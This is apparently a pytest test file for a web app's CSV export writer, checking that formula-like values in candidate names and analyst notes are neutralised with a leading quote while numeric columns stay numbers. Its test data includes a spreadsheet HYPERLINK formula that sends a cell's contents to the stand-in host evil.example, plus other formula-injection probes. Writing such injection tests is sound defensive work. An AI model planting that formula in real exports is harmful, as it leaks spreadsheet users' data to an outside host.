"""The app's CSV exports go through the shared writer: crawled formulas are neutralised, numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from conftest import login, make_users

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klaster")'


@pytest.fixture()
def planted_app(scan_out, tmp_path):
    """The scanned store with crawled-looking formulas planted in two candidates' names."""
    from csei_nlp.store.sqlite import Store
    from csei_nlp.web.app import create_app

    with Store(scan_out) as store:
        cands = store.candidates()
        run_id = cands[0]["run_id"]
        cands[0]["name"] = HYPERLINK
        cands[1]["name"] = " =1+2"
        first = sorted(cands[0]["components"])[0]
        cands[0]["components"][first] = -0.125
        store.replace_candidates(cands, run_id)
    a = create_app(scan_out, annotations_dir=tmp_path / "annotations", models_dir=tmp_path / "no-models")
    make_users(a)
    yield a, cands[0]["site"], cands[1]["site"], first
    a.extensions["csei"].db.dispose()


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_ranking_and_decision_exports_neutralise_formulas(planted_app):
    app, site0, site1, comp = planted_app
    c = app.test_client()
    tok = login(c, "alice")
    rows = {r["site"]: r for r in _csv(c.get("/export/ranking.csv").text)}
    assert rows[site0]["name"] == "'" + HYPERLINK
    assert rows[site1]["name"] == "' =1+2"
    assert rows[site0][f"c_{comp}"] == "-0.125" and float(rows[site0][f"c_{comp}"]) == -0.125  # still a number
    assert all(float(r["score"]) >= 0 and not r["score"].startswith("'") for r in rows.values())
    # the analyst's note is typed text, exported through the same writer
    c.post(f"/candidate/{site0}/decision", data={"decision": "unsure", "note": "@SUM(1+1)*cmd", "csrf_token": tok})
    (dec,) = _csv(c.get("/export/decisions.csv").text)
    assert dec["note"] == "'@SUM(1+1)*cmd" and dec["site"] == site0
